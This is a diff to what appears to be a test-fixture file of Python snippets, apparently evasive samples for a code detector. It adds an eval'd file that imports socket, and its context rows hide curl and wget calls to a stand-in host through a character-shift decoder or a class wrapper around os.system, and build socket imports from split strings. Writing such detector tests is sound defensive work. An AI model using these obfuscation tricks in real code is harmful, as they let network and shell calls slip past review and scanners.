@@ -85,7 +85,7 @@ export const laterEvasive: readonly HonestRow[] = [
     "import os\ndef d(s): return ''.join(chr(ord(c) - 1) for c in s)\nos.system(d('dvsm!f/psh'))\n",
   ),
   py("import os\nclass A:\n    def go(self, c): os.system(c)\nA().go('wget e.org')\n"),
-  py("def ev(s, f=eval): return f(s)\nev(open('a').read())\n"),
+  py("def ev(s, f=eval): return f(s)\nev(open('a').read())\n", { a: "import socket\n" }),
   py("import importlib\ndef load(n): return importlib.import_module(n)\nload('sock' + 'et')\n"),
   py("from pathlib import Path\nPath('y.py').write_text('import sock' + 'et')\nimport y\n"),
   py("import sys\nsys.path.append('lib.zip')\nimport thing\nthing.go()\n"),
